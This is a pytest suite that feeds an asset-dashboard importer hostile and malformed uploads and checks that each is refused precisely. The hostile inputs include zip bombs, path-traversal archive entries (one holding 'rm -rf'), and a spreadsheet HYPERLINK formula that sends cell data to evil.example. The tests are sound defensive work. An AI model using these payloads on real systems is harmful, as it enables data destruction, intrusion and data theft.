"""A corpus of malformed and hostile uploads: each is refused with the exact
(sheet, row, column) and a reason naming the problem, within seconds, and the
database (seeded first, and imported into with --replace) stays unchanged.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from dashboard import schema
from dashboard.upload_checks import Limits
from tests.test_import import dump, patch_zip, run_import, seed, xlsx_bytes, zip_bytes

SHEET1 = "xl/worksheets/sheet1.xml"
ASSET_HEAD = ["asset_tag", "category", "status"]


def _assets_csv(
    *lines: str, head: str = "asset_tag,category,status,purchase_date,purchase_cost"
) -> bytes:
    return ("\n".join([head, *lines]) + "\n").encode()


def _bomb(size: int) -> bytes:
    return b"0" * size


def _stored_zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
    return out.getvalue()


def _xlsx_with_formula(cached: bytes) -> bytes:
    data = xlsx_bytes({"assets": [ASSET_HEAD, ["A1", "laptop", '=LOWER("DEPLOYED")']]})
    return patch_zip(
        data, SHEET1, b'<f>LOWER("DEPLOYED")</f><v></v>', b'<f>LOWER("DEPLOYED")</f>' + cached
    )


def _xlsx_cached_error() -> bytes:
    data = _xlsx_with_formula(b"<v>#VALUE!</v>")
    return patch_zip(data, SHEET1, b'<c r="C2">', b'<c r="C2" t="e">')


def _forged_dimension() -> bytes:
    rows = (
        [ASSET_HEAD]
        + [[f"A{i}", "laptop", "deployed"] for i in range(2000)]
        + [["B", "laptop", "nope"]]
    )
    data = xlsx_bytes({"assets": rows})
    return patch_zip(
        data, SHEET1, b'<dimension ref="A1:C2002"/>', b'<dimension ref="A1:XFD1048576"/>'
    )


def _unclosed_rows() -> bytes:
    # Lazy regular expressions over 200,000 unclosed <row> tags would take hours.
    data = xlsx_bytes({"assets": [ASSET_HEAD, ["A1", "laptop", "deployed"]]})
    return patch_zip(data, SHEET1, b"</sheetData>", b"<row>" * 200_000 + b"</sheetData>")


def _xlsx_error_cell() -> bytes:
    return xlsx_bytes(
        {"assets": [ASSET_HEAD + ["purchase_cost"], ["A1", "laptop", "deployed", "#N/A"]]}
    )


def _xlsx_two_assets_sheets() -> bytes:
    return xlsx_bytes(
        {
            "assets": [ASSET_HEAD, ["A1", "laptop", "deployed"]],
            "Assets ": [ASSET_HEAD, ["A2", "laptop", "deployed"]],
        }
    )


def _empty_workbook() -> bytes:
    wb = openpyxl.Workbook()
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _no_workbook_xml() -> bytes:
    return zip_bytes(
        {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"<worksheet/>"}
    )


def _broken_workbook_xml() -> bytes:
    data = xlsx_bytes({"assets": [ASSET_HEAD]})
    return patch_zip(data, "xl/workbook.xml", b"<sheets>", b"<sheets><<<")


def _utf16_no_bom() -> bytes:
    return "asset_tag,category,status\nA1,laptop,deployed\n".encode("utf-16-le")


FILE = None  # the error concerns the file as a whole: no row, no column

# id, file name, bytes (or a builder), limits, expected (sheet, row, column), reason fragment
CASES = [
    # ---- before parsing: what the file is
    (
        "not-a-zip-xlsx",
        "pkg.xlsx",
        b"asset_tag,category\nA1,laptop\n",
        None,
        ("pkg.xlsx", None, None),
        "not an .xlsx workbook (not a zip archive)",
    ),
    (
        "old-xls",
        "pkg.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        None,
        ("pkg.xlsx", None, None),
        "old-format .xls",
    ),
    (
        "zip-without-workbook",
        "pkg.xlsx",
        _no_workbook_xml,
        None,
        ("pkg.xlsx", None, None),
        "not an Excel workbook (no xl/workbook.xml)",
    ),
    (
        "broken-workbook-xml",
        "pkg.xlsx",
        _broken_workbook_xml,
        None,
        ("pkg.xlsx", None, None),
        "not a readable Excel workbook",
    ),
    (
        "truncated-zip",
        "pkg.zip",
        lambda: zip_bytes({"assets.csv": b"a,b\n" * 1000})[:-30],
        None,
        ("pkg.zip", None, None),
        "not a valid zip archive",
    ),
    (
        "xlsx-bomb-ratio",
        "pkg.xlsx",
        lambda: zip_bytes({"xl/workbook.xml": b"<workbook/>", SHEET1: _bomb(5_000_000)}),
        None,
        ("pkg.xlsx", None, None),
        "over the compression ratio limit of 100",
    ),
    (
        "zip-bomb-ratio",
        "pkg.zip",
        lambda: zip_bytes({"assets.csv": _bomb(5_000_000)}),
        None,
        ("pkg.zip", None, None),
        "over the compression ratio limit of 100",
    ),
    (
        "zip-unpacked-size",
        "pkg.zip",
        lambda: _stored_zip({"assets.csv": b"x" * 1_500_000}),
        Limits(max_unpacked_mb=1, max_upload_mb=5),
        ("pkg.zip", None, None),
        "unpacks to 1.4 MB, over the limit of 1 MB",
    ),
    (
        "zip-dotdot",
        "pkg.zip",
        lambda: zip_bytes({"../assets.csv": b"asset_tag\nA1\n"}),
        None,
        ("pkg.zip", None, None),
        "a path outside its folder",
    ),
    (
        "zip-absolute",
        "pkg.zip",
        lambda: zip_bytes({"/tmp/assets.csv": b"asset_tag\nA1\n"}),
        None,
        ("pkg.zip", None, None),
        "a path outside its folder",
    ),
    (
        "zip-drive-letter",
        "pkg.zip",
        lambda: zip_bytes({"C:/data/assets.csv": b"asset_tag\nA1\n"}),
        None,
        ("pkg.zip", None, None),
        "a path outside its folder",
    ),
    (
        "xlsx-dotdot-entry",
        "pkg.xlsx",
        lambda: zip_bytes({"xl/workbook.xml": b"<workbook/>", "xl/../../evil.sh": b"rm -rf"}),
        None,
        ("pkg.xlsx", None, None),
        "a path outside its folder",
    ),
    (
        "zip-two-folders",
        "pkg.zip",
        lambda: zip_bytes({"a/assets.csv": b"asset_tag\n", "b/people.csv": b"person_id\n"}),
        None,
        ("pkg.zip", None, None),
        "CSV files in several folders",
    ),
    (
        "upload-too-big",
        "assets.csv",
        lambda: _assets_csv(*["A1,laptop,deployed,,"] * 100),
        Limits(max_upload_mb=0.001),
        ("assets.csv", None, None),
        "over the upload limit of 0.001 MB",
    ),
    (
        "unknown-extension",
        "assets.txt",
        b"asset_tag\nA1\n",
        None,
        ("assets.txt", None, None),
        "unknown kind of file (.txt)",
    ),
    (
        "csv-that-is-a-zip",
        "assets.csv",
        lambda: zip_bytes({"x": b"y"}),
        None,
        ("assets.csv", None, None),
        "not a CSV text file (it is a zip archive)",
    ),
    # ---- text encodings
    (
        "binary-garbage-csv",
        "assets.csv",
        bytes(range(256)) * 20,
        None,
        ("assets.csv", None, None),
        "control byte 0x00 at offset 0",
    ),
    (
        "utf32-csv",
        "assets.csv",
        "asset_tag\nA1\n".encode("utf-32"),
        None,
        ("assets.csv", None, None),
        "UTF-32 text is not supported",
    ),
    (
        "utf16-without-bom",
        "assets.csv",
        _utf16_no_bom,
        None,
        ("assets.csv", None, None),
        "UTF-16/UTF-32 text without a byte-order mark",
    ),
    (
        "neither-utf8-nor-1252",
        "assets.csv",
        b"asset_tag,category,status\nA\x81,laptop,deployed\n",
        None,
        ("assets.csv", None, None),
        "neither UTF-8 nor Windows-1252 text (byte 0x81 at offset 27",
    ),
    ("empty-csv", "assets.csv", b"  \n\n", None, ("assets.csv", None, None), "is empty"),
    # ---- structure
    (
        "ragged-row",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,", "A2,laptop,deployed,,,surplus"),
        None,
        ("assets", 3, "(field 6)"),
        "this row has 6 fields, the header has 5",
    ),
    (
        "unclosed-quote",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,", 'A2,"laptop,deployed,,'),
        None,
        ("assets", None, None),
        "the CSV cannot be parsed",
    ),
    (
        "xlsx-value-beyond-header",
        "pkg.xlsx",
        lambda: xlsx_bytes({"assets": [ASSET_HEAD, ["A1", "laptop", "deployed", None, "stray"]]}),
        None,
        ("assets", 2, "(column E)"),
        "a value beyond the last header column (C)",
    ),
    (
        "duplicate-headers",
        "assets.csv",
        b"Asset Tag,category,status,asset-tag\nA1,laptop,deployed,A1\n",
        None,
        ("assets", 1, "asset-tag"),
        "the same column as 'Asset Tag'",
    ),
    ("empty-workbook", "pkg.xlsx", _empty_workbook, None, (None, None, None), "nothing to import"),
    (
        "headers-only",
        "assets.csv",
        b"asset_tag,category,status\n",
        None,
        (None, None, None),
        "nothing to import",
    ),
    # A blank row or a title above the header is skipped (issue 11; tests/test_tolerant.py);
    # a title with no header row below it is still refused.
    (
        "title-without-header",
        "pkg.xlsx",
        lambda: xlsx_bytes({"assets": [["Asset register 2026"], ["A1"]]}),
        None,
        ("assets", 1, None),
        "row 1 names none of the columns of 'assets'",
    ),
    (
        "missing-required-column",
        "assets.csv",
        b"asset_tag,category\nA1,laptop\n",
        None,
        ("assets", 1, "status"),
        "a required column is missing",
    ),
    (
        "one-of-columns-missing",
        "installs.csv",
        b"title_id,discovered_date\nT1,2024-01-01\n",
        None,
        ("installs", 1, "asset_tag"),
        "a column asset_tag or hostname is required",
    ),
    (
        "two-sheets-same-table",
        "pkg.xlsx",
        _xlsx_two_assets_sheets,
        None,
        ("Assets ", None, None),
        "a second sheet or file for table 'assets'",
    ),
    # ---- cells
    (
        "forged-dimension",
        "pkg.xlsx",
        _forged_dimension,
        None,
        ("assets", 2002, "status"),
        "not one of",
    ),
    (
        "unclosed-rows",
        "pkg.xlsx",
        _unclosed_rows,
        Limits(max_ratio=100_000),
        ("pkg.xlsx", None, None),
        "not a readable Excel workbook",
    ),
    (
        "formula-without-cache",
        "pkg.xlsx",
        lambda: _xlsx_with_formula(b""),
        None,
        ("assets", 2, "status"),
        "a formula without a cached value",
    ),
    (
        "formula-cached-error",
        "pkg.xlsx",
        _xlsx_cached_error,
        None,
        ("assets", 2, "status"),
        "whose value is an Excel error",
    ),
    (
        "error-cell",
        "pkg.xlsx",
        _xlsx_error_cell,
        None,
        ("assets", 2, "purchase_cost"),
        "an Excel error cell",
    ),
    (
        "number-cell-as-date",
        "pkg.xlsx",
        lambda: xlsx_bytes(
            {"assets": [ASSET_HEAD + ["purchase_date"], ["A1", "laptop", "deployed", 45292]]}
        ),
        None,
        ("assets", 2, "purchase_date"),
        "a number, not a date cell",
    ),
    (
        "time-cell-as-date",
        "pkg.xlsx",
        lambda: xlsx_bytes(
            {
                "assets": [
                    ASSET_HEAD + ["purchase_date"],
                    ["A1", "laptop", "deployed", dt.time(10, 30)],
                ]
            }
        ),
        None,
        ("assets", 2, "purchase_date"),
        "a time without a date",
    ),
    (
        "csat-6",
        "tickets.csv",
        b"ticket_id,kind,opened,csat\nT1,incident,2025-01-01 10:00,6\n",
        None,
        ("tickets", 2, "csat"),
        "must be at most 5",
    ),
    (
        "nan",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,NaN"),
        None,
        ("assets", 2, "purchase_cost"),
        "not a finite number",
    ),
    (
        "infinity",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,-inf"),
        None,
        ("assets", 2, "purchase_cost"),
        "not a finite number",
    ),
    (
        "overflow-1e400",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,1e400"),
        None,
        ("assets", 2, "purchase_cost"),
        "not a finite number (too large)",
    ),
    (
        "thousands-separator",
        "assets.csv",
        lambda: _assets_csv('A1,laptop,deployed,,"1,200.50"'),
        None,
        ("assets", 2, "purchase_cost"),
        "a thousands separator",
    ),
    (
        "currency-sign",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,$1200"),
        None,
        ("assets", 2, "purchase_cost"),
        "a currency sign or code",
    ),
    (
        "currency-code",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,EUR 1200"),
        None,
        ("assets", 2, "purchase_cost"),
        "a currency sign or code",
    ),
    # 1.200,50 alone and 30/06/2026 alone are read now (issue 11, tests/test_tolerant.py);
    # a column mixing the conventions, or one slashed date among ISO dates, is still refused.
    (
        "semicolon-mixed-decimals",
        "assets.csv",
        b"asset_tag;category;status;purchase_cost\nA1;laptop;deployed;1.200,50\nA2;laptop;deployed;99.5\n",
        None,
        ("assets", 3, "purchase_cost"),
        "a decimal point, but this column also has decimal commas (row 2)",
    ),
    (
        "day-first-date-among-iso",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,30/06/2026,\nA2,laptop,deployed,2026-06-30,"),
        None,
        ("assets", 2, "purchase_date"),
        "ambiguous",
    ),
    (
        "serial-date-as-text",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,45292,"),
        None,
        ("assets", 2, "purchase_date"),
        "a serial number written as text",
    ),
    (
        "impossible-date",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,2023-02-29,"),
        None,
        ("assets", 2, "purchase_date"),
        "not a real date",
    ),
    (
        "month-not-first-day",
        "cloud_spend.csv",
        b"month,provider,cost\n2024-07-15,AWS,1\n",
        None,
        ("cloud_spend", 2, "month"),
        "not the first day of a month",
    ),
    (
        "bad-enum",
        "assets.csv",
        lambda: _assets_csv("A1,laptopp,deployed,,"),
        None,
        ("assets", 2, "category"),
        "not one of: laptop, desktop",
    ),
    (
        "bad-boolean",
        "people.csv",
        b"person_id,active\np1,maybe\n",
        None,
        ("people", 2, "active"),
        "not a boolean",
    ),
    (
        "negative-cost",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,-5"),
        None,
        ("assets", 2, "purchase_cost"),
        "must be at least 0",
    ),
    (
        "quantity-zero",
        "entitlements.csv",
        b"entitlement_id,title_id,quantity\nE1,T1,0\n",
        None,
        ("entitlements", 2, "quantity"),
        "must be greater than 0",
    ),
    (
        "quantity-fraction",
        "entitlements.csv",
        b"entitlement_id,title_id,quantity\nE1,T1,2.5\n",
        None,
        ("entitlements", 2, "quantity"),
        "not a whole number",
    ),
    (
        "resolved-before-opened",
        "tickets.csv",
        b"ticket_id,kind,opened,resolved\nT1,incident,2025-01-02 10:00,2025-01-01 09:00\n",
        None,
        ("tickets", 2, "resolved"),
        "before 'opened' (2025-01-02 10:00:00)",
    ),
    (
        "end-before-start",
        "contracts.csv",
        b"contract_id,vendor,kind,start_date,end_date,annual_value\nC1,Acme,saas,2025-01-01,2024-12-31,10\n",
        None,
        ("contracts", 2, "end_date"),
        "before 'start_date' (2025-01-01)",
    ),
    (
        "duplicate-key",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,deployed,,", "A2,laptop,deployed,,", "A1,phone,deployed,,"),
        None,
        ("assets", 4, "asset_tag"),
        "duplicate key: the same as row 2",
    ),
    (
        "duplicate-composite-key",
        "installs.csv",
        b"title_id,asset_tag,hostname\nT1,,PC-1\nT1,,pc-1\n",
        None,
        ("installs", 3, "title_id"),
        "duplicate key (title_id, device): the same as row 2",
    ),
    (
        "blank-required",
        "assets.csv",
        lambda: _assets_csv("A1,laptop,,,"),
        None,
        ("assets", 2, "status"),
        "a required value is blank",
    ),
    (
        "one-of-blank",
        "discovery.csv",
        b"source,seen_date,hostname,serial\nintune,2025-01-01,,\n",
        None,
        ("discovery", 2, "hostname"),
        "hostname or serial is required (both are blank)",
    ),
]


@pytest.mark.parametrize(
    ("case", "filename", "content", "limits", "where", "reason"), CASES, ids=[c[0] for c in CASES]
)
def test_hostile_upload_is_refused(engine, case, filename, content, limits, where, reason):
    before = seed(engine)
    data = content() if callable(content) else content
    result = run_import(engine, data, filename, replace=True, limits=limits)
    assert not result.ok
    first = result.errors[0]
    assert (first["sheet"], first["row"], first["column"]) == where, result.errors
    assert reason in first["reason"], result.errors
    assert dump(engine) == before


def test_the_corpus_is_large_enough():
    assert len(CASES) > 40


def test_formula_payload_text_is_imported_and_neutralised_on_export(engine, tmp_path):
    from dashboard.exporter import export_package

    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = xlsx_bytes({"assets": [ASSET_HEAD + ["notes"], ["A1", "laptop", "deployed", None]]})
    data = patch_zip(
        data,
        SHEET1,
        b'<c r="C2" t="inlineStr"><is><t>deployed</t></is></c>',
        b'<c r="C2" t="inlineStr"><is><t>deployed</t></is></c><c r="D2" t="inlineStr"><is><t>'
        + payload.replace("&", "&amp;").replace('"', "&quot;").encode()
        + b"</t></is></c>",
    )
    result = run_import(engine, data, "pkg.xlsx")
    assert result.ok, result.errors
    assert dump(engine)["assets"][0][schema.table("assets").names.index("notes")] == payload
    export_package(engine, tmp_path / "csv")
    line = (tmp_path / "csv" / "assets.csv").read_text().splitlines()[1]
    assert ',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in line
    export_package(engine, tmp_path / "pkg.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "pkg.xlsx")["assets"]["AE2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)


def test_a_file_full_of_bad_values_is_reported_in_full(engine):
    # How quickly: tests/bench_import.py (run_hostile) measures it; no clock in a test.
    before = seed(engine)
    lines = [f"A{i},Spaceship,unknown,30.06.2026,${i}" for i in range(20_000)]
    result = run_import(engine, _assets_csv(*lines), "assets.csv")
    assert len(result.errors) == 80_000  # every value, none dropped
    assert result.errors[-1]["row"] == 20_001 and result.errors[-1]["column"] == "purchase_cost"
    assert dump(engine) == before
